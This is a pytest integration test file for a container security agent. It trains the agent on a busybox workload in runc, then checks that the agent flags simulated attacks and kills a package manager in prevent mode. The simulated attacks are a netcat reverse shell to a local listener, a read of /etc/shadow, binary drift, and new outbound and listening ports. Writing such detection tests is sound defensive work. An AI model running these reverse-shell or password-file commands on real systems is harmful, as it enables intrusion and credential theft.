"""The Defender on real containers (runc, as root): it learns a busybox workload, stays
quiet while the workload does what it did, then raises exactly the right incident, with
its explanation, for each attack (reverse shell, drift, a read of /etc/shadow, a new
outbound port, a new listener); prevent mode kills the offending process."""

from __future__ import annotations

import io
import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from tests.support.containers import RuncContainer, container_skip_reason, runc_container

from stockade.runtime.agent import AgentSettings, DefenderAgent
from stockade.runtime.defender import DefenderPolicy
from stockade.runtime.incidents import Action, Incident
from stockade.runtime.models import ModelState
from stockade.runtime.recorder import read_bundle

pytestmark = [pytest.mark.root, pytest.mark.slow]


class Listener:
    """A TCP server on 127.0.0.1 that holds each connection ``hold`` seconds, sending
    ``greeting`` first."""

    def __init__(self, hold: float = 1.0, greeting: bytes = b"") -> None:
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.port = self.socket.getsockname()[1]
        self.hold, self.greeting = hold, greeting
        self.accepted = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.socket.accept()
            except OSError:
                return
            self.accepted += 1
            threading.Thread(target=self._hold, args=(conn,), daemon=True).start()

    def _hold(self, conn: socket.socket) -> None:
        with conn:
            if self.greeting:
                conn.sendall(self.greeting)
            time.sleep(self.hold)

    def close(self) -> None:
        self.socket.close()


def _wait(predicate: Callable[[], bool], timeout: float, what: str) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}")


@pytest.fixture
def agent(tmp_path: Path) -> Iterator[DefenderAgent]:
    if reason := container_skip_reason():
        pytest.skip(reason)
    policy = DefenderPolicy(actions=[("builtin:package-manager", Action.PREVENT)])
    log = io.StringIO()
    running = DefenderAgent(
        AgentSettings(
            data_dir=tmp_path / "defender",
            learning_seconds=4,
            dry_run_seconds=0,
            policy=policy,
            network_interval=0.1,
            log=log,
        )
    )
    running.start()
    try:
        yield running
    finally:
        running.stop()


def _mine(agent: DefenderAgent, container: RuncContainer) -> list[Incident]:
    return [i for i in agent.incidents if i.container.id == container.id[:12]]


def test_learn_then_flag_each_attack(agent: DefenderAgent, tmp_path: Path) -> None:
    service = Listener(hold=1.0)
    shell_listener = Listener(hold=2.0, greeting=b"id\n")
    unseen = Listener(hold=1.5)
    workload = (
        f"while true; do sleep 0.5 | nc 127.0.0.1 {service.port} >/dev/null; "
        "cp /etc/hostname /tmp/h; ls / >/dev/null; sleep 0.2; done"
    )
    with runc_container(tmp_path, ["/bin/sh", "-c", workload]) as box:
        model_key = "test/busybox:1"
        _wait(
            lambda: (m := agent.models.get(model_key)) is not None and m.state is ModelState.ACTIVE,
            30,
            "the model to learn",
        )
        model = agent.models.get(model_key)
        assert model is not None
        assert "/bin/busybox[nc]" in model.processes
        assert f"tcp/127.0.0.1:{service.port}" in model.outbound
        # normal activity after learning raises nothing
        time.sleep(3)
        assert _mine(agent, box) == []

        def expect(rule: str, run: Callable[[], object], timeout: float = 15) -> Incident:
            before = len(_mine(agent, box))
            run()
            _wait(lambda: len(_mine(agent, box)) > before, timeout, rule)
            time.sleep(1.0)  # anything else this action causes arrives too
            new = _mine(agent, box)[before:]
            assert [i.rule for i in new] == [rule], [(i.rule, i.explanation) for i in new]
            return new[0]

        reverse = expect(
            "builtin:reverse-shell",
            lambda: box.exec("nc", "127.0.0.1", str(shell_listener.port), "-e", "/bin/sh"),
        )
        assert reverse.priority.label == "critical"
        assert "network socket" in reverse.explanation
        assert reverse.record()["processTree"][0]["exe"] == "/bin/sh"

        drift = expect(
            "builtin:drift",
            lambda: box.exec("/bin/sh", "-c", "cp /bin/busybox /tmp/sleep; /tmp/sleep 1"),
        )
        assert "/tmp/sleep" in drift.explanation
        assert "written or changed after the container started" in drift.explanation

        # the file sensor: the process sensor told it of the container when it started
        assert agent.files is not None
        assert agent.files.is_watching(box.id[:12])
        shadow = expect("builtin:sensitive-read", lambda: box.exec("cat", "/etc/shadow"))
        assert shadow.explanation.startswith("`cat /etc/shadow` (pid ")
        assert "opened /etc/shadow, which holds password hashes" in shadow.explanation
        assert (
            shadow.title
            == f"Read of /etc/shadow in container {box.id[:12]} of image test/busybox:1"
        )
        event = shadow.record()["event"]
        assert (event["type"], event["path"], event["flags"]) == ("openat", "/etc/shadow", 0)
        assert shadow.outcome == "alerted"

        outbound = expect(
            "model:outbound",
            lambda: box.exec("/bin/sh", "-c", f"sleep 1 | nc 127.0.0.1 {unseen.port}"),
        )
        assert f"port {unseen.port} was never connected to" in outbound.explanation
        assert "for image test/busybox:1" in outbound.explanation

        listen = expect(
            "model:listen",
            lambda: box.exec("/bin/sh", "-c", "nc -l -p 47123 & sleep 4; kill %1"),
        )
        assert "listens on tcp/47123" in listen.explanation

        # the forensics bundle holds the incident and the events before it
        records = list(read_bundle(agent.settings.data_dir / "recorder", listen.id))
        assert records[0]["incident"]["rule"] == "model:listen"
        assert any(r.get("type") == "execve" for r in records[1:])
    # the log got one JSON line per incident
    lines = [json.loads(line) for line in agent.settings.log.getvalue().splitlines()]  # type: ignore[union-attr]
    assert {"builtin:reverse-shell", "builtin:drift"} <= {line["rule"] for line in lines}
    for listener in (service, shell_listener, unseen):
        listener.close()


def test_prevent_kills_a_package_manager(agent: DefenderAgent, tmp_path: Path) -> None:
    from tests.support.images import BuildError, bookworm_image, missing_tools

    if missing_tools("debootstrap"):
        pytest.skip("needs debootstrap to build the Debian image")
    try:
        rootfs = bookworm_image().rootfs
    except BuildError as exc:
        pytest.skip(f"the Debian image could not be built here: {exc}")
    with runc_container(
        tmp_path, ["/bin/sleep", "60"], rootfs=rootfs, image="test/bookworm:12"
    ) as box:
        started = time.monotonic()
        # Debian's real apt-get, in the running container
        done = box.exec("apt-get", "install", "-y", "--no-download", "curl", timeout=60)
        elapsed = time.monotonic() - started
        incidents = _mine(agent, box)
        assert [i.rule for i in incidents] == ["builtin:package-manager"], [
            (i.rule, i.explanation) for i in incidents
        ]
        killed = incidents[0]
        assert killed.outcome == "killed"
        assert "changes the software of a running container" in killed.explanation
        assert done.returncode == 137  # SIGKILL
        assert elapsed < 30
